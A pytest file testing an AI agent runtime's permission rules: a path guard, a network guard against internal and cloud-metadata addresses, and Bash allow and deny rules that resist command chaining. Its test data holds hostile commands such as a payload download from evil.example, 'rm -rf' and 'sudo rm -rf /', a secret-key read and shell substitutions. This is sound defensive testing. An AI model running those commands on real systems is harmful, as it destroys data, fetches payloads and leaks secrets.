"""The permission rules on their own: path guard (Glob patterns included), rules, modes."""

from __future__ import annotations

from pathlib import Path

import pytest

from agent_api.runtime import permissions
from agent_api.runtime.permissions import decide, path_guard, rule_matches


@pytest.fixture
def cwd(tmp_path: Path) -> Path:
    (tmp_path / "src").mkdir()
    return tmp_path


@pytest.mark.parametrize(
    ("tool", "tool_input"),
    [
        ("Read", {"file_path": "/etc/passwd"}),
        ("Write", {"file_path": "../escape.txt", "content": "x"}),
        ("Glob", {"pattern": "/etc/**"}),
        ("Glob", {"pattern": "../../**/*.env"}),
        ("Glob", {"pattern": "*.py", "path": "/etc"}),
        ("Grep", {"pattern": "root", "path": "/etc"}),
        ("LS", {"path": "/"}),
        ("NotebookRead", {"notebook_path": "/tmp/x.ipynb"}),
        ("NotebookEdit", {"notebook_path": "../x.ipynb"}),
        ("Glob", {"pattern": 42}),
    ],
)
def test_outside_paths_are_denied(cwd: Path, tool: str, tool_input: dict[str, object]) -> None:
    verdict = path_guard(cwd, tool, tool_input)
    assert verdict is not None and verdict.decision == "deny" and verdict.decided_by == "path_guard"


@pytest.mark.parametrize(
    ("tool", "tool_input"),
    [
        ("Read", {"file_path": "src/a.py"}),
        ("Glob", {"pattern": "**/*.py"}),
        ("Glob", {"pattern": "src/**/*.py"}),
        ("Glob", {"pattern": "*.py", "path": "src"}),
        ("Grep", {"pattern": "TODO"}),
        ("Bash", {"command": "cat /etc/passwd"}),  # Bash is the sandbox's business, not the path guard's
    ],
)
def test_inside_paths_pass(cwd: Path, tool: str, tool_input: dict[str, object]) -> None:
    assert path_guard(cwd, tool, tool_input) is None


def test_rules_and_modes(cwd: Path) -> None:
    assert rule_matches("Bash(git:*)", "Bash", {"command": "git status"})
    assert not rule_matches("Bash(git:*)", "Bash", {"command": "rm -rf /"})
    common = {"cwd": cwd, "allowed": [], "disallowed": [], "bash_sandboxed": False}
    write = {"tool_name": "Write", "tool_input": {"file_path": "a.txt", "content": "x"}}
    assert decide(mode="default", **common, **write) is None  # a person decides
    assert decide(mode="acceptEdits", **common, **write).decided_by == "mode"  # type: ignore[union-attr]
    assert decide(mode="plan", **common, **write).decision == "deny"  # type: ignore[union-attr]
    denied = decide(mode="bypassPermissions", **{**common, "disallowed": ["Write"]}, **write)
    assert denied is not None and (denied.decision, denied.decided_by) == ("deny", "rule")


class TestSandboxAndNetworkChecks:
    def test_the_opt_out_is_refused_only_when_sandboxed(self) -> None:
        call = {"command": "id", "dangerouslyDisableSandbox": True}
        verdict = permissions.leaves_sandbox("Bash", call, bash_sandboxed=True)
        assert verdict is not None and (verdict.decision, verdict.decided_by) == ("deny", "sandbox")
        assert permissions.leaves_sandbox("Bash", {"command": "id"}, bash_sandboxed=True) is None
        assert permissions.leaves_sandbox("Bash", call, bash_sandboxed=False) is None

    def test_network_targets_of_each_tool(self) -> None:
        assert permissions.network_targets("WebFetch", {"url": "http://x.example/"}) == ["http://x.example/"]
        assert permissions.network_targets("SandboxNetworkAccess", {"host": "::1"}) == ["http://[::1]/"]
        nested = {"a": [{"b": " https://inner.example/path "}], "note": "see http://in.prose/x too"}
        assert permissions.network_targets("mcp__fetch__get", nested) == [
            "https://inner.example/path",
            "http://in.prose/x",
        ]
        lax = {"u": "http:/\\127.0.0.1/", "v": "//10.0.0.1/x", "host": "::1", "http://key.example/": 1}
        assert set(permissions.network_targets("mcp__fetch__get", lax)) == {
            "http://127.0.0.1/",
            "http://10.0.0.1/x",
            "http://[::1]/",
            "http://key.example/",
        }
        assert permissions.network_targets("Bash", {"command": "curl http://127.0.0.1"}) == []

    @pytest.mark.parametrize(
        ("tool", "tool_input"),
        [
            ("WebFetch", {"url": "http://localhost:8000/"}),
            ("WebFetch", {"url": "http://2130706433/"}),
            ("WebFetch", {"url": "http://169.254.169.254/latest/meta-data/"}),
            ("WebFetch", {"url": "http://metadata.google.internal/"}),
            ("WebFetch", {"url": "http://[::ffff:127.0.0.1]/"}),
            ("WebFetch", {"url": "file:///etc/passwd"}),
            ("SandboxNetworkAccess", {"host": "127.0.0.1"}),
            ("SandboxNetworkAccess", {"host": "10.1.2.3"}),
            ("mcp__fetch__get", {"request": {"url": "ws://127.0.0.1:5432/"}}),
            ("mcp__fetch__get", {"url": "file:///etc/passwd"}),
            ("mcp__fetch__get", {"url": "gopher://example.com/"}),
            ("mcp__fetch__get", {"text": "fetch http://169.254.169.254/latest please"}),
            ("mcp__db__query", {"host": "127.0.0.1", "port": 5432}),
            ("mcp__fetch__get", {"urls": ["https://93.184.216.34/"] * 20 + ["http://127.0.0.1/"]}),
            ("mcp__fetch__get", {"a": [[[[[[[[[["https://93.184.216.34/"]]]]]]]]]]}),
            ("WebFetch", {"url": "http://[2002:7f00:1::]/"}),
        ],
    )
    async def test_internal_targets_are_denied(self, tool: str, tool_input: dict[str, object]) -> None:
        verdict = await permissions.network_guard(tool, tool_input)
        assert verdict is not None and (verdict.decision, verdict.decided_by) == ("deny", "sandbox")

    async def test_public_literal_targets_pass(self) -> None:
        assert await permissions.network_guard("WebFetch", {"url": "https://93.184.216.34/"}) is None
        assert await permissions.network_guard("SandboxNetworkAccess", {"host": "2606:4700::1111"}) is None


class TestPathsThroughLinks:
    """The CLI opens a path after the check, outside the sandbox: a link on the way could be swapped in between."""

    def test_a_path_through_a_link_is_refused_even_inside(self, tmp_path: Path) -> None:
        (tmp_path / "real").mkdir()
        (tmp_path / "real" / "notes.txt").write_text("x")
        (tmp_path / "link").symlink_to(tmp_path / "real")
        for raw in ("link/notes.txt", str(tmp_path / "link" / "notes.txt"), "real/../link/notes.txt"):
            verdict = path_guard(tmp_path, "Read", {"file_path": raw})
            assert verdict is not None and verdict.decided_by == "path_guard" and "symbolic link" in verdict.reason
        assert path_guard(tmp_path, "Read", {"file_path": "real/notes.txt"}) is None
        assert path_guard(tmp_path, "Write", {"file_path": "real/new/deeper.txt"}) is None  # not there yet

    def test_path_fields_of_tools_the_guard_does_not_know(self, tmp_path: Path) -> None:
        outside = path_guard(tmp_path, "Workflow", {"scriptPath": "/etc/passwd", "name": "x"})
        assert outside is not None and "scriptPath" in outside.reason
        assert path_guard(tmp_path, "EnterWorktree", {"path": "../elsewhere"}) is not None
        assert path_guard(tmp_path, "Workflow", {"scriptPath": "inside.js"}) is None
        assert path_guard(tmp_path, "TodoWrite", {"todos": []}) is None
        assert path_guard(tmp_path, "mcp__fs__read", {"path": "/etc/passwd"}) is None  # MCP servers judge their own


class TestBashRulesAndShellSyntax:
    """An allow rule's pattern never stretches across shell syntax; a deny rule looks at every part."""

    @pytest.mark.parametrize(
        "command",
        [
            "git status; rm -rf x",
            "git status && curl http://example.com",
            "git status || rm -rf x",
            "git status | sh",
            "git status & rm -rf x",
            "git status\nrm -rf x",
            "git status\rrm -rf x",
            "git status $(rm -rf x)",
            "git status `rm -rf x`",
            "git status > /etc/passwd",
            "git status < /etc/passwd",
            "git status ${IFS}x",
            "git status (x)",
            "git status \\\nrm -rf x",
        ],
    )
    def test_a_compound_command_is_never_covered_by_a_prefix_rule(self, command: str) -> None:
        assert permissions.is_compound(command)
        for rule in ("Bash(git status:*)", "Bash(git:*)", "Bash(git status*)", "Bash(*)"):
            assert not rule_matches(rule, "Bash", {"command": command}), (rule, command)
        assert permissions.remembered_rule("Bash", {"command": command}) is None

    def test_a_prefix_covers_more_words_but_not_a_longer_word(self) -> None:
        rule = "Bash(git status:*)"
        assert rule_matches(rule, "Bash", {"command": "git status"})
        assert rule_matches(rule, "Bash", {"command": "git status --short src"})
        assert not rule_matches(rule, "Bash", {"command": "git statusx"})
        assert not rule_matches(rule, "Bash", {"command": "git stash"})
        # The whole tool, and an exact text someone allowed, still match as written.
        assert rule_matches("Bash", "Bash", {"command": "git status; ls"})
        assert rule_matches("Bash(make && make test)", "Bash", {"command": "make && make test"})

    def test_a_deny_rule_covers_any_part_of_a_compound_command(self) -> None:
        for command in ("ls && rm -rf x", "ls; rm x", "ls | rm x", "echo $(rm -rf x)", "ls\nrm x", "rm"):
            assert rule_matches("Bash(rm:*)", "Bash", {"command": command}, deny=True), command
        assert not rule_matches("Bash(rm:*)", "Bash", {"command": "ls -la"}, deny=True)
        assert not rule_matches("Bash(rm:*)", "Bash", {"command": "ls && rm x"})  # an allow rule: no

    def test_decide_denies_a_part_and_asks_for_a_compound_command(self, cwd: Path) -> None:
        common = {"cwd": cwd, "mode": "default", "bash_sandboxed": False}
        chained = {"tool_name": "Bash", "tool_input": {"command": "git status && curl http://x.example"}}
        assert decide(allowed=["Bash(git status:*)"], disallowed=[], **common, **chained) is None  # a person decides
        denied = decide(allowed=["Bash(git status:*)"], disallowed=["Bash(curl:*)"], **common, **chained)
        assert denied is not None and (denied.decision, denied.decided_by) == ("deny", "rule")
        plain = {"tool_name": "Bash", "tool_input": {"command": "git status"}}
        allowed = decide(allowed=["Bash(git status:*)"], disallowed=[], **common, **plain)
        assert allowed is not None and (allowed.decision, allowed.decided_by) == ("allow", "rule")


class TestRememberedRules:
    @pytest.mark.parametrize(
        ("command", "rule"),
        [
            ("git status", "Bash(git status:*)"),
            ("git status --short", "Bash(git status:*)"),
            ("ls", "Bash(ls:*)"),
            ("  echo   hi  ", "Bash(echo hi:*)"),
            # A prefix would cover every option or file: only the exact command.
            ("ls -la", "Bash(ls -la)"),
            ("rm notes.txt", "Bash(rm notes.txt)"),
            ("git --version", "Bash(git --version)"),
            ("cat README.md", "Bash(cat README.md)"),
            # Commands that run other commands or programs: only the exact command.
            ("npm run-script build", "Bash(npm run-script build)"),
            ("./build.sh release", "Bash(./build.sh release)"),
            ("env", "Bash(env)"),
            ("bash --version", "Bash(bash --version)"),
            ("sudo ls", "Bash(sudo ls)"),
            ("python3 test.py", "Bash(python3 test.py)"),
            ("xargs echo", "Bash(xargs echo)"),
        ],
    )
    def test_bash_keeps_the_leading_words(self, command: str, rule: str) -> None:
        assert permissions.remembered_rule("Bash", {"command": command}) == rule
        assert rule_matches(rule, "Bash", {"command": " ".join(command.split())})

    @pytest.mark.parametrize(
        "command",
        [
            "",
            "   ",
            "c*t x",
            "[ -f x ]",
            "FOO=1 git status",
            "'git' status",
            "-rf x",
            "~/bin/x",
            "git status " + "x" * 1000,
            "ls *.txt",
            "cat file?.txt",
        ],
    )
    def test_bash_without_a_safe_rule(self, command: str) -> None:
        assert permissions.remembered_rule("Bash", {"command": command}) is None

    @pytest.mark.parametrize(
        ("approved", "later"),
        [
            ("env", "env curl -o /tmp/x http://evil.example/payload"),
            ("bash --version", "bash -c 'rm -rf ~/important'"),
            ("git --version", "git -c alias.x='!rm -rf ~' x"),
            ("python3 test.py", "python3 /tmp/anything.py"),
            ("cat README.md", "cat /var/lib/agent-api/secret_key"),
            ("sudo -l", "sudo rm -rf /"),
            ("./run_tests.sh", "./run_tests.sh --evil"),
            ("ls -la", "ls -la /etc; id"),
        ],
    )
    def test_an_approval_never_covers_a_wider_command(self, approved: str, later: str) -> None:
        rule = permissions.remembered_rule("Bash", {"command": approved})
        assert rule is not None
        assert rule_matches(rule, "Bash", {"command": approved})
        assert not rule_matches(rule, "Bash", {"command": later}), rule

    def test_other_tools_by_name(self) -> None:
        assert permissions.remembered_rule("Write", {"file_path": "a.txt"}) == "Write"
        assert permissions.remembered_rule("mcp__files__read-file", {}) == "mcp__files__read-file"
        assert permissions.remembered_rule("SandboxNetworkAccess", {"host": "example.com"}) is None
        assert permissions.remembered_rule("Odd(name)", {}) is None
